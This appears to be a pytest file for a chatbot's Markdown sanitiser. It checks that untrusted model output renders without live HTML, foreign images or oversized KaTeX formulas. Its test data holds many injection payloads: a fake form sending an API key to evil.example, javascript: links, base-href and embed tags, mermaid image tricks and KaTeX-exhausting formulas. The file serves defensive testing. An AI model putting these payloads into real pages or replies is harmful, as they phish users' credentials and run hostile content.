"""markup_text.safe_markdown: untrusted Markdown in, Markdown out that renders harmlessly.

Each attack is rendered the way the Chatbot's frontend does it (formulas cut out first, then a
CommonMark + GFM renderer with raw HTML on, formulas put back escaped) and the HTML is read:
no element outside the allowlist may come out, no image but the app's own and data: ones, no
formula too deep or too large for KaTeX. nh3 (the allowlist sanitiser) must find nothing to
remove. The same attacks go through the real frontend (marked) in tests/test_render_browser.py.
Normal answers (code, tables, LaTeX) must come back byte for byte.
"""

from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import markup_code
import markup_text
from markup_text import ALLOWED_TAGS, JOINER, cut_math, math_too_big, safe_markdown, unshown

ROOT = Path(__file__).resolve().parent.parent

# What Markdown itself renders, plus the raw tags markup_text.py keeps.
RENDERED = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br",
    "table", "thead", "tbody", "tr", "th", "td", "s", "img",
    "h1", "h2", "h3", "h4", "h5", "h6",
} | set(ALLOWED_TAGS)  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"style"},
    "td": {"style"},
}
FRONTEND = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(
    ["table", "strikethrough"]
)


def escape(text: str) -> str:
    """The frontend's escape of a formula put back into the HTML."""
    table = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;"}
    return "".join(table.get(c, c) for c in text)


def frontend_html(text: str) -> str:
    """The HTML of a message as the Chatbot makes it: formulas out, Markdown, formulas back."""
    formulas: list[str] = []
    work = text
    for left, right in markup_text.LATEX_DELIMITERS:
        pattern = re.compile(re.escape(left) + r"([\s\S]+?)" + re.escape(right))

        def hold(match: re.Match) -> str:
            formulas.append(match.group())
            return f"%%%LATEX_BLOCK_{len(formulas) - 1}%%%"

        work = pattern.sub(hold, work)
    rendered = FRONTEND.render(work)
    return re.sub(r"%%%LATEX_BLOCK_(\d+)%%%", lambda m: escape(formulas[int(m.group(1))]), rendered)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def elements(fragment: str) -> Elements:
    parser = Elements()
    parser.feed(fragment)
    parser.close()
    return parser


UPLOAD = re.compile(r"/gradio_api/file=/\S+|data:image/(png|jpeg|gif|webp);base64,\S+")


def assert_harmless(text: str) -> str:
    """safe_markdown(text) renders with allowed elements only; returns the rendered text."""
    shown = safe_markdown(text)
    return assert_html_harmless(text, shown, frontend_html(shown))


def assert_html_harmless(text: str, shown: str, rendered: str) -> str:
    """`rendered` (the HTML of `shown`, which safe_markdown made of `text`) has allowed
    elements and attributes only, no image but ours, no formula too big for KaTeX outside
    code; returns its text."""
    parsed = elements(rendered)
    for tag, attrs in parsed.found:
        assert tag in RENDERED, (tag, text, shown)
        assert set(attrs) <= ATTRIBUTES.get(tag, set()), (tag, attrs, text)
        if tag == "img":
            assert UPLOAD.fullmatch(attrs.get("src", "")), (attrs, text)
    cleaned = nh3.clean(rendered, tags=RENDERED, attributes=ATTRIBUTES, link_rel=None)
    # (nh3 re-nests unclosed tags, so the kinds of elements are compared, not the tree)
    assert {t for t, _ in parsed.found} <= {t for t, _ in elements(cleaned).found}, text
    # What KaTeX's auto-render gets: each run of text outside <pre>/<code>, the formulas put
    # back in it, read its way (leftmost delimiter first, the end at brace depth 0).
    outside = re.sub(r"<(pre|code)\b[^>]*>[\s\S]*?</\1>", "<x>", rendered)
    for chunk in re.split(r"<[^>]+>", outside):
        for formula in katex_formulas(html.unescape(chunk)):
            assert not math_too_big(formula), (formula[:80], text[:80])
    return "".join(parsed.text)


KATEX_DELIMITERS = [("$$", "$$"), ("$", "$"), ("\\(", "\\)"), ("\\[", "\\]")]


def katex_formulas(text: str) -> list[str]:
    """The formulas KaTeX's auto-render (0.16, as Gradio bundles it) finds in one text node."""
    found = []
    lefts = re.compile("|".join(re.escape(left) for left, _ in KATEX_DELIMITERS))
    while (match := lefts.search(text)) is not None:
        text = text[match.start() :]
        left, right = next((a, b) for a, b in KATEX_DELIMITERS if text.startswith(a))
        depth, index, end = 0, len(left), -1
        while index < len(text):
            if depth <= 0 and text.startswith(right, index):
                end = index
                break
            char = text[index]
            if char == "\\":
                index += 1
            elif char == "{":
                depth += 1
            elif char == "}":
                depth -= 1
            index += 1
        if end < 0:
            break
        found.append(text[len(left) : end])
        text = text[end + len(right) :]
    return found


ROOTS = "\\sqrt{" * 150 + "x" + "}" * 150
PHISH = '<form action="https://evil.example/steal"><input name=key placeholder="API key">'
PHISH += "<button>Verify key</button></form>"
ATTACKS = {
    "plain": PHISH,
    "indented fence that is not a fence": f"    ```\n{PHISH}\n    ```",
    "escaped backticks": f"\\`code\\` {PHISH} \\`",
    "escaped backtick opening a span": f"\\``x` {PHISH} `",
    "four backticks closed by three": f"````\ncode\n```\n{PHISH}\n````\n{PHISH}",
    "three closed by four then text": f"```\ncode\n````\n{PHISH}",
    "fence marked closes early": f"```\nx\n```~\n{PHISH}\n```",
    "tilde fence": f"~~~\nx\n~~~```\n{PHISH}\n~~~",
    "unclosed fence (streaming)": f"```html\n{PHISH}",
    "fence in a quote": f"> ```\n> {PHISH}\n> ```\n{PHISH}",
    "fence in a list, dedented": f"- a\n  ```\n{PHISH}\n  ```\n{PHISH}\n  ```",
    "fence in a list, tab": f"-\t```\n\t{PHISH}\n\t```",
    "html block swallowing a fence": f"<div>\n```\n</div>\n\n```\n{PHISH}\n```",
    "formula swallowing a fence": f"$\n```\n$\n{PHISH}\n```",
    "formula swallowing a closing fence": f"```\n$\n```\n$\n{PHISH}\n```",
    "display formula around code": f"$$\n```\n$$ {PHISH}\n```",
    "code span over lines": f"`a\n{PHISH}\n`",
    "code span with pipes": f"| `{PHISH.replace('><', '>|<')}` |\n|---|\n| x |",
    "table cell": f"| a | b |\n|---|---|\n| {PHISH} | `<b>` |",
    "link text": f"[{PHISH}](https://example.com)",
    "link destination": f"[x](<{PHISH}>)",
    "uppercase": PHISH.upper(),
    "backslash": "\\" + PHISH,
    "comment": f"<!-- x --> <!--> {PHISH} -->",
    "cdata and pi": f"<![CDATA[{PHISH}]]> <?x {PHISH} ?>",
    "allowed tag alone on a line": f"<b>\n{PHISH}",
    "details": f"<details open><summary>s</summary>{PHISH}</details>",
    "svg": '<svg><image href="/gradio_api/startup-events"/></svg>',
    "math element": "<math><mtext><img src=x></mtext></math>",
    "img": "<img src=x> <img src=/gradio_api/startup-events> <IMG SRC=//evil.example/a>",
    "media": '<video src=/v></video><audio src=/a></audio><picture><source srcset="/p">',
    "embeds": "<iframe src=/x></iframe><object data=/x></object><embed src=/x>",
    "style": '<style>@import "/x";</style><div style="background:url(/x)">x</div>',
    "link and base": '<link rel=stylesheet href=/x><base href="https://evil.example/">',
    "markdown images": "![a](/gradio_api/startup-events) ![b](https://evil.example/b.png) "
    "![c](//evil.example/c.png) ![d](javascript:alert(1)) ![e](data:image/svg+xml;base64,PHN2Zz4=)",
    "reference image": "![a][r] ![r]\n\n[r]: /gradio_api/startup-events",
    "image in a list": "- ![a](/gradio_api/startup-events)\n  ![b](https://evil.example/b)",
    "image escaped in code": "`![a](/x)` and ![b](/gradio_api/startup-events)",
    "autolinks": "<https://example.com/ok> <javascript:alert(1)> <mailto:a@b.c> <a@b.c>",
    "autolink with a backtick": f"<https://x`y> `{PHISH}`",
    "mermaid image shape": '```mermaid\ngraph TD\nA@{ img: "/gradio_api/startup-events" }\n```',
    "mermaid html": f"```mermaid\ngraph TD\nA[{PHISH}]\n```",
    # Formulas KaTeX's auto-render would build although the frontend never cut them out:
    "formula only KaTeX pairs": f"$ {ROOTS} $$ x $$",  # the frontend cuts only $$ x $$
    "formula from entities": f"&#36;{ROOTS}&#36; and $x$ &#x5c;({ROOTS}&#92;)",
    "macro for a later formula": "$\\gdef\\a{\\sqrt\\sqrt\\sqrt}$ and $" + "\\a" * 50 + "x$",
}


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("where", ["top", "list", "quote", "after text"])
def test_attacks_render_no_live_control_image_or_embed(name, where):
    attack = ATTACKS[name]
    if where == "list":
        attack = "1. " + attack.replace("\n", "\n   ")
    elif where == "quote":
        attack = "> " + attack.replace("\n", "\n> ")
    elif where == "after text":
        attack = "Some `code` first.\n\n" + attack
    assert_harmless(attack)


def test_the_attacks_together_and_in_any_order():
    together = "\n\n".join(ATTACKS.values())
    assert_harmless(together)
    assert_harmless("\n".join(reversed(list(ATTACKS.values()))))


# Where marked could read the code differently from markdown-it (a fence it closes early, a
# code span over lines, an HTML block, a formula cut across a fence...), the oracle above,
# being markdown-it too, cannot tell; so raw markup may only remain in code both surely agree
# on (and tests/test_render_browser.py renders all of these with the real frontend).
RAW_IN_AGREED_CODE = {"four backticks closed by three", "formula swallowing a closing fence"}
RAW_IN_AGREED_CODE |= {"mermaid html"}
RAW = re.compile(r"<(?i:form|input|button|img|video|iframe|svg|div|details|style|link|base)\b")


@pytest.mark.parametrize("name", ATTACKS)
def test_raw_markup_is_left_only_in_code_both_readers_agree_on(name):
    shown = safe_markdown(ATTACKS[name])
    assert bool(RAW.search(shown)) == (name in RAW_IN_AGREED_CODE), shown


PIECES = [
    "```", "````", "~~~", "`", "``", "\\", "\\`", "$", "$$", "\\(", "\\)", "\\[", "\\]",
    "\n", "\n\n", "    ", "  ", "\t", "> ", "- ", "1. ", "|", "|---|", "x", " ", "~",
    "<form>", "<input placeholder=k>", "<b>", "</b>", "<br>", "<img src=x>", "<div>", "<!--",
    "-->", "![a](/x)", "![r]", "[r]: /x", "<https://a.b>", "```mermaid\n", "\\sqrt{" * 30,
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_any_mix_of_tricky_pieces_renders_harmlessly(pieces):
    assert_harmless("".join(pieces))


def test_escaped_markup_still_reads_as_typed():
    shown = assert_harmless(PHISH)
    assert '<form action="https://evil.example/steal"><input name=key placeholder="API key">' in (
        shown
    )
    assert "Verify key" in shown
    # Images that may not load show as links with their text.
    out = safe_markdown("![a cat](https://evil.example/cat.png)")
    assert out == "[\U0001f5bc a cat](https://evil.example/cat.png)"
    assert '<a href="https://evil.example/cat.png">' in frontend_html(out)


# -- what stays as it was ------------------------------------------------------------------
NORMAL = """# Solving $x^2 - 5x + 6 = 0$

Factor it: $(x-2)(x-3) = 0$, so $x = 2$ or $x = 3$. In general
$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$
and \\(e^{i\\pi} + 1 = 0\\) or \\[\\int_0^1 x^2\\,dx = \\tfrac{1}{3}\\].

| input | output | note |
|---|:---:|---|
| `a < b` | **yes** | <sub>small</sub> and <br> a break |
| `<div>` | ~~no~~ | `List<String>` |

1. Make the page:

   ```html
   <!doctype html>
   <form action="/search"><input name="q"><button>Go</button></form>
   <img src="logo.png">
   ```

2. Then the code:

```python
def palindrome(s: str) -> bool:
    if len(s) < 2:
        return True
    return s[0] == s[-1] and palindrome(s[1:-1])
```

Use `<input type="file">` and <kbd>Ctrl</kbd>+<kbd>C</kbd>; *emphasis* and `List<T>`.
A [link](https://example.com), <https://example.com>, an image of our own:
![upload](/gradio_api/file=/tmp/gradio/0123abcd/cat.png) and
![dot](data:image/png;base64,iVBORw0KGgo=).
> a quote with `<code>` and $\\alpha$
"""


def test_a_normal_answer_comes_back_unchanged(monkeypatch):
    markup_text._upload_url.cache_clear()
    monkeypatch.setenv("GRADIO_TEMP_DIR", "/tmp/gradio")
    try:
        assert safe_markdown(NORMAL) == NORMAL
        for end in range(0, len(NORMAL), 7):  # and while it streams, as text where unfinished
            shown = safe_markdown(NORMAL[:end]).replace(JOINER, "").replace("&lt;", "<")
            assert shown.replace("[\U0001f5bc ", "![") == NORMAL[:end], end
    finally:
        markup_text._upload_url.cache_clear()
    rendered = frontend_html(NORMAL)
    assert "<table>" in rendered and '<code class="language-python">' in rendered
    assert rendered.count("<kbd>") == 2 and "<sub>small</sub>" in rendered


def test_code_marked_might_read_otherwise_looks_the_same():
    # Indented code (what precedes it decides, and the two readers may differ), a fence not
    # closed yet (streaming), code spans next to a link: `<` gets an invisible joiner there.
    for text in [
        "Intro:\n\n    <b>indented</b> code\n",
        "```html\n<form>\n  <input>",
        "See [the docs](https://example.com) for `<input>`.",
    ]:
        shown = safe_markdown(text)
        assert shown != text and shown.replace(JOINER, "") == text
        assert_harmless(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain text, **bold**, `code`, a < b and c > d, 3<4",
        "$E = mc^2$ and $$\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$$",
        "$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$",
        "$\\left( \\frac{a}{b} \\right)^{\\left[ x \\right]}$",
        "Prices: $5 and $10.",
        "```\n<form>\n```",
        "`<b>` <b>bold</b> <i>x</i> <br/> <br />",
        "x<sup>2</sup> H<sub>2</sub>O <mark>m</mark> <del>d</del>",
    ],
)
def test_harmless_markdown_is_left_alone(text):
    assert safe_markdown(text) == text


def test_an_edited_message_loses_the_marks_but_keeps_the_edit():
    original = "Is <div> or ![pic](https://x.example/p.png) better? `<span>` [a](https://b.c)"
    shown = safe_markdown(original)
    assert shown != original
    assert unshown(shown, original) == original  # opened and saved unchanged
    assert unshown(shown + " Thanks!", original) == original + " Thanks!"
    assert unshown("I typed &lt; myself", "I typed &lt; myself") == "I typed &lt; myself"


# -- formulas ---------------------------------------------------------------------------------
DEEP = "$" + "\\sqrt{" * 150 + "x" + "}" * 150 + "$"


@pytest.mark.parametrize(
    "formula",
    [
        DEEP,
        "$$" + "\\frac{1}{" * 60 + "x" + "}" * 60 + "$$",
        "\\(" + "\\sqrt" * 200 + " x\\)",
        "\\[" + "x^{" * 80 + "y" + "}" * 80 + "\\]",
        "$" + "\\left(" * 60 + "x" + "\\right)" * 60 + "$",
        "$" + "\\begin{array}{c}" * 40 + "x" + "\\end{array}" * 40 + "$",
        "$\\def\\a{\\sqrt\\sqrt\\sqrt\\sqrt}\\def\\b{\\a\\a\\a\\a}\\b\\b x$",
        "$\\newcommand{\\r}[1]{\\sqrt{#1}}\\r{\\r{x}}$",
        "$" + "x+" * 3000 + "x$",
    ],
)
def test_deep_long_or_macro_formulas_become_code(formula):
    answer = f"Before {formula} after $x^2$."
    shown = safe_markdown(answer)
    assert assert_harmless(answer)
    assert "$x^2$" in shown, "the normal formula is kept"
    kept = [shown[a:b] for a, b in cut_math(shown)[0]]
    assert kept == ["$x^2$"]
    code = re.findall(r"<code>([\s\S]*?)</code>", frontend_html(shown))
    assert len(code) == 1 and ("sqrt" in code[0] or "x" in code[0])


def test_formulas_within_the_bound_still_render():
    assert not math_too_big("\\sqrt{" * 10 + "x" + "}" * 10)
    assert math_too_big("\\sqrt{" * 30 + "x" + "}" * 30)
    fraction = "$" + "\\cfrac{1}{1+" * 8 + "x" + "}" * 8 + "$"
    assert safe_markdown(fraction) == fraction


def test_a_deep_formula_inside_code_is_left_as_code():
    fenced = f"```latex\n{DEEP}\n```"
    assert safe_markdown(fenced) == fenced
    assert_harmless(fenced)


def test_many_formulas_are_bounded_in_total():
    many = " ".join(f"$x_{{{i}}}+\\sqrt{{{i}}}$" for i in range(3000))
    shown = safe_markdown(many)
    kept = sum(b - a for a, b in cut_math(shown)[0])
    assert 0 < kept <= markup_text.MAX_MATH_TOTAL_CHARS


def test_the_delimiters_are_the_chatbots():
    # The UI's LATEX list, wherever the UI keeps it (app.py before the UI got its modules).
    sources = [(ROOT / name).read_text(encoding="utf-8") for name in ("ui_assets.py", "app.py")
               if (ROOT / name).exists()]  # fmt: skip
    start = re.compile(r"^LATEX\b[^=\n]*= \[", re.MULTILINE)
    source = next(text for text in sources if start.search(text))
    begin = start.search(source).start()
    block = source[begin : source.index("]\n", begin)]
    found = re.findall(r'"left": "((?:[^"\\]|\\.)+)", "right": "((?:[^"\\]|\\.)+)"', block)
    delimiters = tuple((a.encode().decode("unicode_escape"), b.encode().decode("unicode_escape"))
                       for a, b in found)  # fmt: skip
    assert delimiters == markup_text.LATEX_DELIMITERS


# -- the last resort, and speed -----------------------------------------------------------------
def test_the_fallback_neutralises_everything():
    text = "\n\n".join(ATTACKS.values()) + DEEP + " $x$ \\(y\\) \\[z\\]"
    inert = markup_text._inert(text)
    assert not re.search(r"<[A-Za-z/!?]|!\[|```mermaid", inert)
    assert cut_math(inert)[0] == []
    assert_harmless(inert)


def test_an_output_that_would_cut_into_other_formulas_is_neutralised_whole(monkeypatch):
    # The last check: should a rewrite ever make the frontend cut formulas other than the
    # kept ones, nothing of its reading is trusted.
    monkeypatch.setattr(markup_text, "_rewrite", lambda text, *rest: text.replace("<p>", "$<p>$"))
    markup_text._CACHE.clear()
    text = "x <p> $y$ <form>"
    assert safe_markdown(text) == markup_text._inert(text)
    assert_harmless(text)
    markup_text._CACHE.clear()


def test_the_prefix_cache_changes_nothing():
    text = "\n\n".join([NORMAL, *ATTACKS.values(), NORMAL])
    streamed = []
    for end in range(0, len(text), 23):
        streamed.append(safe_markdown(text[:end]))
    markup_code.PREFIXES.clear()
    markup_text._CACHE.clear()
    for number, end in enumerate(range(0, len(text), 23)):
        markup_code.PREFIXES.clear()
        markup_text._CACHE.clear()
        assert safe_markdown(text[:end]) == streamed[number], end


def test_it_is_fast_enough_for_every_streamed_update():
    paragraph = "Some **bold** text with `code <b>` and a [link](https://x.com), $x^2$.\n\n"
    block = "- item\n\n   ```html\n   <div class='a'>\n       <input name=q>\n   </div>\n   ```\n\n"
    table = "| a | b |\n|---|---|\n| `<br>` | 2 |\n\n"
    answer = (paragraph * 3 + block + table) * 25  # ~8,000 characters, ~2,000 tokens
    assert len(answer) > 7500
    markup_code.PREFIXES.clear()
    markup_text._CACHE.clear()
    steps = range(40, len(answer) + 40, 40)  # what ~50 ms of tokens add
    started = time.perf_counter()
    for end in steps:
        safe_markdown(answer[:end])
    per_update = (time.perf_counter() - started) / len(steps)
    started = time.perf_counter()
    safe_markdown(answer.replace("```", "~~~"))  # a text never seen: parsed whole
    cold = time.perf_counter() - started
    print(f"per streamed update {per_update * 1000:.3f} ms, cold {cold * 1000:.2f} ms")
    assert per_update < 0.002 and cold < 0.02
